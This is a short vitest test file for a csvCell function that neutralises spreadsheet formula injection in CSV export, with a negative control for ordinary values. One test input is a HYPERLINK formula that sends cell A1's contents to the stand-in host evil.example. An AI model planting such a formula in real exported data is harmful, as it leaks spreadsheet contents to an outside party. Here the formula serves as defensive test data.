import { describe, expect, it } from 'vitest';
import { csvCell } from './csv.js';

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
  ])('neutralises the formula %s', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('leaves ordinary text and numbers as they are (negative control)', () => {
    expect(csvCell('Order A-17')).toBe('Order A-17');
    expect(csvCell(1234)).toBe('1234');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(csvCell(null)).toBe('');
  });
});
